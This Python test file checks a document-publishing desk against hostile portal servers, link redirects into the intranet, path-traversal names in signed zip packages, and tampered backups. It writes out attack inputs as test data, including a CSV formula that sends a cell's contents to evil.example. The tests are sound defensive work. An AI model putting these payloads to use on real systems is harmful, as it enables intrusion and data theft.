"""Attacks on what the desk takes in besides documents: the portal's answers, the links the site
sentinel follows, signed transfer packages, department lexicons and backups. Each test asserts the
correct behaviour (a clear refusal in Chinese, bounded time and memory, nothing stored half-way);
those marked xfail are attacks that still work, their reason says how. Servers are real, on
127.0.0.1, with delays of a fraction of a second against the desk's own short timeouts."""

from __future__ import annotations

import base64
import contextlib
import json
import os
import sqlite3
import threading
import time
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from app import checking, sentinel
from app.backup import backup, restore
from app.catalog import publish_to_catalog
from app.checking import department_lexicon_csv, save_department_lexicon
from app.db.models import CatalogEntry, User
from app.errors import ValidationFailed
from app.transfer import import_package
from publish.portal import PortalClient, PortalError
from publish.transfer import FORMAT, MANIFEST, SIGNATURE, TransferError, key_id, new_private_key, read_package
from tests.conftest import PASSWORD, approved_document, sqlite_only
from tests.portal_server import TOKEN
from tests.test_transfer import _resigned, export, offline_key, trust

# -- a hostile web server --------------------------------------------------------------------------


class Hostile:
    """A server on 127.0.0.1 whose first path segment says how it misbehaves; it records the
    Authorization header of every request it gets."""

    def __init__(self) -> None:
        self.seen: list[tuple[str, str | None]] = []
        self.redirect_to = ""
        hostile = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args: Any) -> None:
                pass

            def _answer(self) -> None:
                hostile.seen.append((self.path, self.headers.get("Authorization")))
                length = int(self.headers.get("Content-Length") or 0)
                if length:
                    self.rfile.read(length)
                mode = self.path.split("/")[1]
                with contextlib.suppress(BrokenPipeError, ConnectionResetError):
                    getattr(self, f"_{mode}")()

            do_GET = do_PUT = do_POST = do_PATCH = _answer

            def _send(self, code: int, body: bytes, kind: str = "application/json") -> None:
                self.send_response(code)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def _endless(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Connection", "close")
                self.end_headers()
                chunk = b" " * 2**20
                for _ in range(4096):  # 4 GB, unless the desk stops reading
                    self.wfile.write(chunk)

            def _dribble(self) -> None:
                self.send_response(200)
                self.send_header("Content-Length", "1000")
                self.end_headers()
                for _ in range(1000):  # one byte well within each timeout: 100 s in all
                    self.wfile.write(b" ")
                    self.wfile.flush()
                    time.sleep(0.1)

            def _redirect(self) -> None:
                self.send_response(302)
                self.send_header("Location", hostile.redirect_to)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def _loop(self) -> None:
                self.send_response(302)
                self.send_header("Location", "/loop/again")
                self.send_header("Content-Length", "0")
                self.end_headers()

            def _html(self) -> None:
                self._send(200, "<html><body>维护中</body></html>".encode(), "text/html")

            def _deep(self) -> None:
                self._send(200, b"[" * 100_000 + b"]" * 100_000)

            def _listed(self) -> None:
                self._send(200, b'{"entries": 7}')

            def _bigreceipt(self) -> None:
                self._send(201, json.dumps({"receipt_id": "R1", "padding": " " * 2**20}).encode())

            def _badhash(self) -> None:
                self._send(201, json.dumps({"receipt_id": "R1", "file_sha256": "0" * 64}).encode())

            def _page(self) -> None:
                self._send(200, b"<html>internal</html>", "text/html")

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def hostile() -> Iterator[Hostile]:
    server = Hostile()
    yield server
    server.close()


def _client(url: str, **kw: Any) -> PortalClient:
    return PortalClient(url, TOKEN, attempts=1, timeout=kw.pop("timeout", 2.0), **kw)


# -- the portal ------------------------------------------------------------------------------------


def test_attack_portal_answers_with_an_endless_body(hostile):
    """The portal (or someone between) answers a status request with gigabytes: refused at a cap."""
    started = time.monotonic()
    with pytest.raises(PortalError, match="响应超过 64 MB"):
        _client(hostile.url + "/endless").status("X-1")
    assert time.monotonic() - started < 20


def test_attack_portal_sends_one_byte_at_a_time(hostile):
    """Each byte arrives within the timeout, the answer never ends: the attempt's deadline ends it."""
    started = time.monotonic()
    with pytest.raises(PortalError, match="没有完成响应"):
        _client(hostile.url + "/dribble", timeout=0.5, deadline=1.0).entries()
    assert time.monotonic() - started < 5


def test_attack_portal_redirects_the_token_to_another_host_over_plain_http(hostile):
    """A redirect to another address: urllib would resend the Authorization header there."""
    elsewhere = Hostile()
    try:
        hostile.redirect_to = f"http://localhost:{elsewhere.server.server_address[1]}/page/x"
        with pytest.raises(PortalError, match="不跟随转向"):
            _client(hostile.url + "/redirect").status("X-1")
        hostile.redirect_to = "file:///etc/passwd"
        with pytest.raises(PortalError, match="不跟随转向"):
            _client(hostile.url + "/redirect").status("X-1")
    finally:
        elsewhere.close()
    assert elsewhere.seen == []


@pytest.mark.parametrize("mode", ["html", "badhash"])
def test_portal_answers_with_html_or_a_receipt_for_other_bytes(hostile, mode):
    with pytest.raises(PortalError, match="回执无法识别" if mode == "html" else "回执中的文件哈希"):
        _client(hostile.url + f"/{mode}").put_file(b"%PDF-1.7 test")


def test_attack_portal_answers_a_read_with_html_or_json_of_another_shape(hostile):
    """A proxy's HTML page, JSON nested past the parser, entries that are no list: a message, not a
    traceback from json (the desk's 公示期 proof and `audit published` read these answers)."""
    for mode in ("html", "deep", "listed"):
        with pytest.raises(PortalError, match="应答无法识别"):
            _client(hostile.url + f"/{mode}").entries()
    with pytest.raises(PortalError, match="应答无法识别"):
        _client(hostile.url + "/html").status("X-1")
    for mode in ("deep", "bigreceipt"):  # a megabyte receipt would be kept with every publish job
        with pytest.raises(PortalError, match="回执无法识别"):
            _client(hostile.url + f"/{mode}").withdraw("X-1", "误发")


# -- the site sentinel's links -----------------------------------------------------------------------


def test_attack_a_linked_server_sends_one_byte_at_a_time(hostile):
    started = time.monotonic()
    checked = sentinel.check_one(hostile.url + "/dribble", sentinel.Options(allow_private=True, timeout=0.3))
    assert checked.dead and checked.status == "timeout"
    assert time.monotonic() - started < 3


def test_a_linked_server_with_an_endless_body_is_read_to_the_cap(hostile):
    checked = sentinel.check_one(hostile.url + "/endless", sentinel.Options(allow_private=True, timeout=5))
    assert checked.status == "200" and checked.sha256


def test_attack_a_link_that_redirects_for_ever_passes_for_alive(hostile):
    """Too many redirects is a dead link to every browser; the sentinel took the last 302 for an answer."""
    checked = sentinel.check_one(hostile.url + "/loop", sentinel.Options(allow_private=True, timeout=2))
    assert checked.dead


def test_links_into_the_intranet_are_never_requested(hostile, monkeypatch):
    """The link itself, a redirect to an internal name and a redirect to file:// are not followed."""
    assert sentinel.check_one(hostile.url + "/page", sentinel.Options()).status == "private"
    assert sentinel.check_one("http://2130706433:1/", sentinel.Options()).status == "private"  # 127.0.0.1
    monkeypatch.setattr(sentinel, "_private", lambda host: host != "127.0.0.1")  # the hostile one is "public"
    monkeypatch.setattr(sentinel, "_refuse_private_peer", lambda address: None)  # the redirect guard alone
    inside = Hostile()
    try:
        hostile.redirect_to = f"http://localhost:{inside.server.server_address[1]}/page/secret"
        assert sentinel.check_one(hostile.url + "/redirect", sentinel.Options()).status == "private"
        hostile.redirect_to = "file:///etc/passwd"
        assert sentinel.check_one(hostile.url + "/redirect", sentinel.Options()).sha256 == ""
    finally:
        inside.close()
    assert inside.seen == []


def test_attack_a_link_whose_name_resolves_inside_when_the_request_is_made(hostile, monkeypatch):
    """DNS rebinding: the name is judged public, then resolves to an internal address when urllib
    connects (here: judged public by patching the judge; the connection reaches 127.0.0.1)."""
    monkeypatch.setattr(sentinel, "_private", lambda host: False)
    assert sentinel.check_one(hostile.url + "/page", sentinel.Options()).status == "private"
    assert hostile.seen == []


# -- signed transfer packages ------------------------------------------------------------------------


def _signed(path: Path, body: bytes, key: Any, members: dict[str, bytes] | None = None) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(MANIFEST, body)
        archive.writestr(SIGNATURE, base64.b64encode(key.sign(body)))
        for name, data in (members or {}).items():
            archive.writestr(name, data)
    return path


def _body(key: Any, items: Any) -> bytes:
    head = f'{{"format":"{FORMAT}","items":'.encode()
    return head + items + f',"key_id":"{key_id(key.public_key())}","sequence":1}}'.encode()


@pytest.mark.parametrize(
    "items",
    [
        b"[" * 100_000 + b"]" * 100_000,  # nested beyond the parser's recursion
        b'"not a list"',
        b'[{"files":[{"sha256":"' + b"a" * 64 + b'","size":"big"}]}]',
        b'[{"files":[{"sha256":"../../etc/passwd","size":1}]}]',
        b'[{"action":"publish","index_no":7,"entry":[],"files":[]}]',
        b'[],"department":"finance"',
    ],
    ids=["deep", "items", "size", "sha", "entry", "department"],
)
def test_attack_a_signed_manifest_of_the_wrong_shape_breaks_the_reader(tmp_path, items):
    """What the key holder signs is still read with care: a manifest that is not what the desk
    writes is refused by name, not a traceback (RecursionError, ValueError, AttributeError)."""
    key = new_private_key()
    package = _signed(tmp_path / "p.zip", _body(key, items), key)
    with pytest.raises(TransferError, match="清单无法识别"):
        read_package(package, lambda _: key.public_key())


def test_attack_a_package_that_is_a_fifo_or_a_device(tmp_path):
    """`package import` of a FIFO blocked for ever in read_bytes; a device such as /dev/zero (size 0)
    was read without end."""
    fifo = tmp_path / "package.zip"
    os.mkfifo(fifo)
    for path in (fifo, Path("/dev/zero")):
        with pytest.raises(TransferError, match="不是普通文件"):
            read_package(path, lambda _: None)


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_member_names_that_climb_out_or_repeat_are_refused(tmp_path):
    key = new_private_key()
    body = _body(key, b"[]")
    for name in ("../../evil.sh", "files/../../evil.sh", "/etc/cron.d/x", MANIFEST):
        package = _signed(tmp_path / "p.zip", body, key, {name: b"x"})
        with pytest.raises(TransferError, match=r"清单之外的文件|重名"):
            read_package(package, lambda _: key.public_key())


def test_attack_a_re_signed_entry_with_fields_of_the_wrong_type_or_another_department(
    workspace, people, sample_files, online, tmp_path
):
    """A package signed with the department's key whose entry carries a date that is no date, a
    title that is a list, or that claims another department: refused with a message, nothing taken in."""
    trust(online, offline_key(workspace, people))
    doc_id = approved_document(workspace, people, sample_files["clean"])
    publish_to_catalog(workspace.db, people.publisher, doc_id, None, summary="供暖", to_package=True)
    good = tmp_path / "good.zip"
    export(workspace, people, good)

    def bad_date(manifest: dict[str, Any]) -> None:
        manifest["items"][0]["entry"]["written_on"] = "明天"

    def listed_title(manifest: dict[str, Any]) -> None:
        manifest["items"][0]["entry"]["title"] = ["标题"]

    def another_department(manifest: dict[str, Any]) -> None:
        manifest["department"] = {"name": "财政局", "code": "CZJ"}

    cases = {"written_on": bad_date, "title": listed_title, "声称来自“财政局”": another_department}
    for n, (reason, change) in enumerate(cases.items()):
        package = _resigned(good, tmp_path / f"bad{n}.zip", workspace, people, change)
        with pytest.raises(TransferError, match=reason):
            import_package(online.workspace.db, online.publisher, package)
    with online.workspace.db.read() as s:
        assert s.scalars(select(CatalogEntry)).all() == []


# -- department lexicons -------------------------------------------------------------------------------


def _import_lexicon(workspace, people, content: bytes) -> Any:
    with workspace.db.write() as s:
        return save_department_lexicon(s, s.get_one(User, people.reviewer), content)


def _stored(workspace, people) -> str:
    with workspace.db.read() as s:
        return department_lexicon_csv(s, s.get_one(User, people.reviewer).department_id)


def test_attack_a_lexicon_term_that_is_a_formula_when_exported(workspace, people):
    """A term the reviewer imports comes back in `lexicon export` as a CSV cell a spreadsheet runs."""
    formula = '"=HYPERLINK(""http://evil.example/?""&A1,""点击"")"'
    with pytest.raises(ValidationFailed, match="公式"):
        _import_lexicon(workspace, people, f"词条,类别,级别\n{formula},其他,提示\n".encode())
    assert "HYPERLINK" not in _stored(workspace, people)


def test_lexicon_terms_that_are_huge_empty_or_carry_nul_and_bom(workspace, people):
    with pytest.raises(ValidationFailed, match="单元格过长"):
        _import_lexicon(workspace, people, ("词条,类别,级别\n" + "密" * 2**20 + ",其他,提示\n").encode())
    with pytest.raises(ValidationFailed, match="控制字符"):
        _import_lexicon(workspace, people, "词条,类别,级别\n内部\x00资料,其他,提示\n".encode())
    assert _stored(workspace, people) == ""
    _import_lexicon(workspace, people, "\ufeff词条,类别,级别\n,其他,提示\n 内部资料 ,其他,提示\n".encode())
    assert _stored(workspace, people).splitlines()[1].startswith("内部资料,")  # BOM and blanks gone


def test_attack_a_lexicon_of_a_million_rows(workspace, people, monkeypatch):
    """A million terms would make every later check build and run an automaton of that size."""
    rows = "词条一,其他,提示\n" * 1_000_000
    started = time.monotonic()
    with pytest.raises(ValidationFailed, match="超过 16 MB"):
        _import_lexicon(workspace, people, ("词条,类别,级别\n" + rows).encode())
    assert time.monotonic() - started < 10
    monkeypatch.setattr(checking, "MAX_LEXICON_TERMS", 2)
    with pytest.raises(ValidationFailed, match="词条过多"):
        _import_lexicon(
            workspace, people, "词条,类别,级别\n甲乙,其他,提示\n丙丁,其他,提示\n戊己,其他,提示\n".encode()
        )
    assert _stored(workspace, people) == ""


def test_attack_a_rule_pack_with_a_formula_a_nul_a_huge_cell_or_of_gigantic_size(workspace, people):
    """A rule pack is stored as it came and written back by `rulepack export`: the same checks as a lexicon."""
    from app import rulepacks

    header = "错误写法,应为,类别,级别,例外,来源\n"
    bad = {
        "公式": header + '示例市政府办公厅,示例市人民政府办公室,机构名称,警告,,"=HYPERLINK(""http://x"")"\n',
        "控制字符": header + "示例市政府\x00办公厅,示例市人民政府办公室,机构名称,警告,,\n",
        "单元格过长": header + "甲" * 2**18 + ",乙,机构名称,警告,,\n",
        "超过 16 MB": header + "示例市政府办公厅,示例市人民政府办公室,机构名称,警告,,\n" * 300_000,
    }
    for reason, text in bad.items():
        with workspace.db.write() as s, pytest.raises(ValidationFailed, match=reason):
            rulepacks.save_rulepack(s, s.get_one(User, people.reviewer), "本地.csv", text.encode())
    with workspace.db.read() as s:
        assert rulepacks.department_sources(s, s.get_one(User, people.reviewer).department_id) == ()


# -- backups --------------------------------------------------------------------------------------------


def test_attack_a_backup_that_is_an_empty_database_claiming_a_known_revision(workspace, people, tmp_path):
    sqlite_only(workspace, "restore takes an SQLite file")
    real = backup(workspace.db, people.admin, tmp_path / "real.sqlite3")
    fake = tmp_path / "fake.sqlite3"
    with sqlite3.connect(fake) as conn:
        conn.execute("CREATE TABLE alembic_version (version_num VARCHAR(32))")
        conn.execute("INSERT INTO alembic_version VALUES (?)", (real.revision,))
    conn.close()
    fresh = tmp_path / "fresh" / "desk.sqlite3"
    fresh.parent.mkdir()
    with pytest.raises(ValidationFailed, match="不是完好的审发台数据库备份"):
        restore(fake, fresh, fresh.parent / "backups", "admin", PASSWORD)
    assert not fresh.exists()


def test_attack_a_backup_whose_audit_trail_was_edited_is_restored(workspace, people, tmp_path):
    """Someone edits the audit trail in a backup file; restoring it would make the edit the desk's record."""
    sqlite_only(workspace, "restore takes an SQLite file")
    info = backup(workspace.db, people.admin, tmp_path / "b.sqlite3")
    with sqlite3.connect(info.path) as conn:
        conn.execute(
            "UPDATE audit_events SET detail = detail || ' ' WHERE id = (SELECT max(id) FROM audit_events)"
        )
    conn.close()
    database = workspace.paths.database
    workspace.close()
    before = database.read_bytes()
    with pytest.raises(ValidationFailed, match="审计链"):
        restore(info.path, database, workspace.paths.data_dir / "backups", "admin", PASSWORD, force=True)
    assert database.read_bytes() == before


def test_a_backup_from_a_newer_desk_is_refused(workspace, people, tmp_path):
    sqlite_only(workspace, "restore takes an SQLite file")
    info = backup(workspace.db, people.admin, tmp_path / "b.sqlite3")
    with sqlite3.connect(info.path) as conn:
        conn.execute("UPDATE alembic_version SET version_num = '9999_from_the_future'")
    conn.close()
    fresh = tmp_path / "fresh" / "desk.sqlite3"
    fresh.parent.mkdir()
    with pytest.raises(ValidationFailed, match="更新版本"):
        restore(info.path, fresh, fresh.parent / "backups", "admin", PASSWORD)
    assert not fresh.exists()
